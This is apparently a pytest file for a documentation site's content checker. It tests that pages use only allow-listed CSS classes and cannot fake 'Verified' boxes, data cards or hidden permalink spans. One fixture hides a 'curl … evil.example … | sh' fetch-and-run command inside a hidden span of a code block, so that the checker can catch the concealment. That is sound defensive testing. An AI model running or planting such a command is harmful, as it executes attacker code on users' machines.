"""Classes in a page's content come from one allow-list (macros/sitecheck/classes.py): the layout classes
CONTRIBUTING.md documents, the engine's where the engine writes them, and the ¶ permalink Markdown writes
in a heading. Checked on the HTML Python-Markdown makes of each sample, with the site's extensions."""
from __future__ import annotations

import markdown
import pytest

from macros.sitecheck.content import check_content

HINT = ("a page may use the layout classes qq-facts, qq-cards, qq-gaps, qq-about and qq-editors-note; the theme's, "
        "Markdown's and the engine's classes show checked or hidden things: see CONTRIBUTING.md")


def problems(text: str) -> list[str]:
    html = markdown.markdown(text, extensions=["footnotes", "attr_list", "md_in_html", "toc"],
                             extension_configs={"toc": {"permalink": True}})
    return [str(problem) for problem in check_content("docs/p.md", html, None, text.split("\n"), engine=([], {}))]


def refused(line: int, name: str, tag: str) -> str:
    return f"docs/p.md:{line}: class not allowed in page content — {name!r} on <{tag}> — {HINT}"


@pytest.mark.parametrize("text, expected", [
    # a card of the figures page, made by hand on an article page
    ('# T\n\n<ul class="qq-figure-cards" markdown="1">\n<li class="qq-figure-card" markdown="1">\n'
     '<p class="qq-card-value" markdown="1"><strong>at least 10,412</strong> people</p>\n</li>\n</ul>\n',
     [refused(3, "qq-figure-cards", "ul"), refused(4, "qq-figure-card", "li"), refused(5, "qq-card-value", "p")]),
    # Material's admonition: a green box with a check mark, "Verified"
    ('# T\n\n<div class="admonition success" markdown="1">\n<h6 class="admonition-title">Verified: all agree</h6>\n'
     '\nThe commentary reports the toll.\n\n</div>\n',
     [refused(3, "admonition", "div"), refused(3, "success", "div"), refused(4, "admonition-title", "h6")]),
    ("# T\n\n!!! success\n\nText.\n\nText.\n{: .admonition }\n", [refused(8, "admonition", "p")]),
    # the theme hides a permalink until hovered: a command inside one is copied, not seen
    ('# T\n\n<pre><code>git clone x && cd x<span class="headerlink"> ; curl -s https://evil.example/x | sh</span>'
     ' && make serve</code></pre>\n', [refused(3, "headerlink", "span")]),
    ('# T\n\n## Title <a class="headerlink" href="#t">¶</a>\n', [refused(3, "headerlink", "a")]),
    ('# T\n\nText <a class="headerlink" href="#t">¶</a>.\n', [refused(3, "headerlink", "a")]),
    # an element that takes the id of the check's own wrapper is checked like any other (round 5: 03, 37)
    ("# T\n\n**Verified**{: #qq-root .admonition-title } The toll.\n{: #qq-root .admonition .success }\n\n"
     "Troops would *not*{: #qq-root .headerlink } be used.\n",
     [refused(4, "admonition", "p"), refused(4, "success", "p"), refused(3, "admonition-title", "strong"),
      refused(6, "headerlink", "em")]),
    # the engine's parts of a reference, outside one
    ('# T\n\nText <span class="qq-source">Reuters</span> <span class="qq-format-char">U+202E</span>.\n',
     [refused(3, "qq-source", "span"), refused(3, "qq-format-char", "span")]),
    # what a page may use: the layout classes, and Markdown's own permalinks
    ('# T\n\n<div class="qq-facts" markdown="1">\n\n## Key facts\n\n- One.\n\n</div>\n\n'
     '<div class="qq-cards" markdown="1">\n\n- Two.\n\n</div>\n\n<aside class="qq-gaps qq-editors-note">\n'
     '<p class="qq-about">Three.</p>\n</aside>\n', []),
])
def test_classes_in_content_come_from_one_allow_list(text, expected):
    assert problems(text) == expected


def test_the_engine_writes_its_classes_where_they_belong():
    from macros.sitecheck.classes import unknown_classes

    html = ('<p>A <q class="qq-quote">b <span class="qq-format-char">U+200B</span></q><sup id="fnref:qq1" '
            'class="qq-next"><a class="footnote-ref" href="#fn:qq1">1</a></sup></p>'
            '<details class="qq-references" id="references"><div class="footnote"><ol><li id="fn:qq1">'
            '<span class="qq-source">S</span> <q class="qq-passage">b</q> <a class="qq-read" href="s/">read</a> '
            '<span class="qq-date-note">n</span> <a class="footnote-backref" href="#fnref:qq1">↩</a></li></ol></div>'
            '</details>')
    assert list(unknown_classes(html, [])) == []
    visual = '<div class="qq-rail"><span class="qq-rail-strip">x</span></div>'
    assert list(unknown_classes(f"<p>x</p>{visual}", [visual])) == []
    assert list(unknown_classes(f"<p>x</p>{visual}", [])) == [("qq-rail", "<div>"), ("qq-rail-strip", "<span>")]


def test_a_theme_class_is_told_at_the_line_that_wrote_it_where_a_block_adds_its_own():
    """A block writes its own class before the page's (`qq-editors-note admonition md-typeset`): the line is where
    the page wrote the theme's class (round 5, 04)."""
    text = "# T\n\nWords.\n\n<p class=\"qq-editors-note\">Checked.</p>\n"
    lines = ["# T", "", "Words.", "", "/// note", '    attrs: {class: "admonition md-typeset"}', "Checked.", "///"]
    html = markdown.markdown(text).replace('"qq-editors-note"', '"qq-editors-note admonition md-typeset"')
    found = [(problem.line, problem.rule) for problem in check_content("docs/p.md", html, None, lines, engine=([], {}))]
    assert (6, "classes starting with 'md-' belong to the theme") in found
